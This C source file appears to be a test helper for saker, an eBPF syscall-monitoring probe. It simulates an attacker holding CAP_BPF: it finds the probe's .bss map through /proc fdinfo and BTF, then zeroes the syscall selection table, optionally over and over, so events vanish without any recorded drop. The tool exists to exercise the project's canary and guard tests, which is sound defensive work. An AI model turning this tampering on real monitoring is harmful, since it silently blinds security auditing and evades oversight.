/*
 * Blinds a running saker the way a process with CAP_BPF could: finds the
 * probe's .bss map among the maps saker holds (/proc/PID/fdinfo), finds the
 * selection table (the global sc_table) in it through the map's BTF, maps
 * the map and zeroes the table. From then on the probe selects no syscall
 * and counts nothing: events vanish without a drop. Test use only (the
 * capture canary's and the selection guard's end-to-end tests); raw bpf(2),
 * no libbpf.
 *
 *   blind PID [MODE [HOLD_S]]
 *     MODE all (default): zero the table; prints
 *       "zeroed sc_table: BYTES bytes at OFFSET of map ID (NAME)"
 *     MODE keep-openat: zero every entry but openat's (the canary's syscall);
 *       prints "zeroed sc_table but openat: ..."
 *     MODE count: change nothing; prints "sc_table: N selected"
 *     HOLD_S: write the zeroes again every 2 ms for that many seconds
 *       (saker restores the table; an attacker may keep writing it)
 */
#include <asm/unistd.h>
#include <dirent.h>
#include <errno.h>
#include <linux/bpf.h>
#include <linux/btf.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#include "saker_abi.h" /* SAKER_SC_SELECTED */

static long sys_bpf(int cmd, union bpf_attr *attr)
{
	return syscall(SYS_bpf, cmd, attr, sizeof(*attr));
}

static int map_fd_by_id(uint32_t id)
{
	union bpf_attr a;

	memset(&a, 0, sizeof(a));
	a.map_id = id;
	return (int)sys_bpf(BPF_MAP_GET_FD_BY_ID, &a);
}

static int info_by_fd(int fd, void *info, uint32_t len)
{
	union bpf_attr a;

	memset(&a, 0, sizeof(a));
	a.info.bpf_fd = (uint32_t)fd;
	a.info.info_len = len;
	a.info.info = (uint64_t)(uintptr_t)info;
	return (int)sys_bpf(BPF_OBJ_GET_INFO_BY_FD, &a);
}

/* The map ids saker holds, from the fdinfo of its fds. */
static size_t held_maps(const char *pid, uint32_t *ids, size_t max)
{
	char dir[64], path[320], line[256];
	struct dirent *d;
	size_t n = 0;
	DIR *dp;

	snprintf(dir, sizeof(dir), "/proc/%s/fdinfo", pid);
	dp = opendir(dir);
	if (!dp)
		return 0;
	while ((d = readdir(dp)) && n < max) {
		FILE *f;

		if (d->d_name[0] == '.')
			continue;
		snprintf(path, sizeof(path), "%s/%s", dir, d->d_name);
		f = fopen(path, "r");
		if (!f)
			continue;
		while (fgets(line, sizeof(line), f))
			if (strncmp(line, "map_id:", 7) == 0 && n < max)
				ids[n++] = (uint32_t)strtoul(line + 7, NULL, 10);
		fclose(f);
	}
	closedir(dp);
	return n;
}

/* Bytes that follow a btf_type of this kind (linux/btf.h's layout). */
static size_t extra(const struct btf_type *t)
{
	unsigned vlen = BTF_INFO_VLEN(t->info);

	switch (BTF_INFO_KIND(t->info)) {
	case 1: /* INT */
		return 4;
	case 3: /* ARRAY */
		return sizeof(struct btf_array);
	case 4: /* STRUCT */
	case 5: /* UNION */
		return vlen * sizeof(struct btf_member);
	case 6:	 /* ENUM */
	case 13: /* FUNC_PROTO */
		return vlen * 8;
	case 14: /* VAR */
		return 4;
	case 15: /* DATASEC */
		return vlen * sizeof(struct btf_var_secinfo);
	case 17: /* DECL_TAG */
		return 4;
	case 19: /* ENUM64 */
		return vlen * 12;
	default:
		return 0;
	}
}

/* sc_table's offset and size in the DATASEC type value_type of the map's BTF. */
static int find_table(uint32_t btf_id, uint32_t value_type, uint32_t *off, uint32_t *size)
{
	struct bpf_btf_info bi;
	union bpf_attr a;
	const struct btf_header *h;
	const char *types, *strs;
	const struct btf_type **byid = NULL;
	uint8_t *raw = NULL;
	size_t n = 1, pos;
	int fd, ret = -1;

	memset(&a, 0, sizeof(a));
	a.btf_id = btf_id;
	fd = (int)sys_bpf(BPF_BTF_GET_FD_BY_ID, &a);
	if (fd < 0)
		return -1;
	memset(&bi, 0, sizeof(bi));
	if (info_by_fd(fd, &bi, sizeof(bi)) || !bi.btf_size)
		goto out;
	raw = malloc(bi.btf_size);
	if (!raw)
		goto out;
	{
		uint32_t sz = bi.btf_size;

		memset(&bi, 0, sizeof(bi));
		bi.btf = (uint64_t)(uintptr_t)raw;
		bi.btf_size = sz;
		if (info_by_fd(fd, &bi, sizeof(bi)))
			goto out;
	}
	h = (const void *)raw;
	if (h->magic != BTF_MAGIC)
		goto out;
	types = (const char *)raw + h->hdr_len + h->type_off;
	strs = (const char *)raw + h->hdr_len + h->str_off;
	byid = calloc(h->type_len / sizeof(struct btf_type) + 2, sizeof(*byid));
	if (!byid)
		goto out;
	for (pos = 0; pos + sizeof(struct btf_type) <= h->type_len; n++) {
		const struct btf_type *t = (const void *)(types + pos);

		byid[n] = t;
		pos += sizeof(*t) + extra(t);
	}
	if (value_type >= n || BTF_INFO_KIND(byid[value_type]->info) != 15)
		goto out;
	{
		const struct btf_type *sec = byid[value_type];
		const struct btf_var_secinfo *vs = (const void *)(sec + 1);

		for (unsigned i = 0; i < BTF_INFO_VLEN(sec->info); i++) {
			const struct btf_type *var;

			if (vs[i].type >= n)
				continue;
			var = byid[vs[i].type];
			if (strcmp(strs + var->name_off, "sc_table") == 0) {
				*off = vs[i].offset;
				*size = vs[i].size;
				ret = 0;
				break;
			}
		}
	}
out:
	free(byid);
	free(raw);
	close(fd);
	return ret;
}

static void zero(uint8_t *t, uint32_t size, int keep)
{
	for (uint32_t i = 0; i < size; i++)
		if ((int)i != keep)
			__atomic_store_n(&t[i], 0, __ATOMIC_RELAXED);
}

int main(int argc, char **argv)
{
	const char *mode = argc > 2 ? argv[2] : "all";
	double hold = argc > 3 ? strtod(argv[3], NULL) : 0;
	uint32_t ids[512];
	size_t n;
	int keep = -1;

	if (argc < 2 || argc > 4 ||
	    (strcmp(mode, "all") && strcmp(mode, "keep-openat") && strcmp(mode, "count"))) {
		fprintf(stderr, "usage: blind PID [all|keep-openat|count [HOLD_S]]\n");
		return 2;
	}
	if (strcmp(mode, "keep-openat") == 0)
		keep = __NR_openat;
	n = held_maps(argv[1], ids, sizeof(ids) / sizeof(ids[0]));
	for (size_t i = 0; i < n; i++) {
		struct bpf_map_info mi;
		size_t len, nl;
		uint32_t off, size;
		uint8_t *p;
		int fd = map_fd_by_id(ids[i]);

		if (fd < 0)
			continue;
		memset(&mi, 0, sizeof(mi));
		nl = 0;
		if (!info_by_fd(fd, &mi, sizeof(mi)))
			nl = strnlen(mi.name, sizeof(mi.name));
		if (nl < 4 || strcmp(mi.name + nl - 4, ".bss") != 0 || !mi.btf_id ||
		    find_table(mi.btf_id, mi.btf_value_type_id, &off, &size) ||
		    (uint64_t)off + size > mi.value_size || (keep >= 0 && (uint32_t)keep >= size)) {
			close(fd);
			continue;
		}
		len = ((size_t)mi.value_size + 4095) & ~(size_t)4095;
		p = mmap(NULL, len, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
		if (p == MAP_FAILED) {
			fprintf(stderr, "blind: mmap of map %u: %s\n", ids[i], strerror(errno));
			close(fd);
			return 1;
		}
		if (strcmp(mode, "count") == 0) {
			unsigned sel = 0;

			for (uint32_t k = 0; k < size; k++)
				sel += (p[off + k] & SAKER_SC_SELECTED) != 0;
			printf("sc_table: %u selected\n", sel);
		} else {
			struct timespec t0, now, tick = {.tv_nsec = 2 * 1000 * 1000};

			zero(p + off, size, keep);
			printf("zeroed sc_table%s: %u bytes at %u of map %u (%s)\n",
			       keep >= 0 ? " but openat" : "", size, off, ids[i], mi.name);
			fflush(stdout);
			clock_gettime(CLOCK_MONOTONIC, &t0);
			for (;;) {
				clock_gettime(CLOCK_MONOTONIC, &now);
				if ((double)(now.tv_sec - t0.tv_sec) +
					(double)(now.tv_nsec - t0.tv_nsec) / 1e9 >=
				    hold)
					break;
				nanosleep(&tick, NULL);
				zero(p + off, size, keep);
			}
		}
		munmap(p, len);
		close(fd);
		return 0;
	}
	fprintf(stderr, "blind: no .bss map with sc_table held by pid %s\n", argv[1]);
	return 1;
}
